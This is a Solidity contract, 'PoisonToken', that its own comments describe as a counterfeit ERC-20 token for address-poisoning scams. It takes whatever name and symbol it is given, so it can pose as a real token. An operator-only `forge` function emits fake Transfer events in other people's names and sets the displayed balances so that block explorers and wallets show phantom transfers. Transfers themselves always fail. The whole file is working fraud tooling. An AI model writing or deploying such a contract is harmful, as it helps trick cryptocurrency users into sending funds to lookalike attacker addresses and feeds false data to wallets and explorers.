// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

/// @title A counterfeit that writes Transfer events in other people's names, for address poisoning.
/// @dev It bears whatever name and symbol it is given. `forge` emits events only; balances answer what the last forged
/// event claims, so that explorers and wallets show the tokens. Nothing can really be transferred.
contract PoisonToken {
    event Transfer(address indexed from, address indexed to, uint256 value);

    string public name;
    string public symbol;
    uint8 public decimals;
    uint256 public totalSupply;
    address private immutable _operator;
    mapping(address => uint256) public balanceOf;

    constructor(string memory name_, string memory symbol_, uint8 decimals_, uint256 supply) {
        name = name_;
        symbol = symbol_;
        decimals = decimals_;
        totalSupply = supply;
        _operator = msg.sender;
    }

    function forge(address[] calldata from, address[] calldata to, uint256[] calldata value) external {
        require(msg.sender == _operator);
        for (uint256 i; i < from.length; i++) {
            balanceOf[to[i]] = value[i];
            emit Transfer(from[i], to[i], value[i]);
        }
    }

    function allowance(address, address) external pure returns (uint256) {
        return 0;
    }

    function approve(address, uint256) external pure returns (bool) {
        return true;
    }

    function transfer(address, uint256) external pure returns (bool) {
        return false;
    }

    function transferFrom(address, address, uint256 value) external pure returns (bool) {
        return value == 0;
    }
}
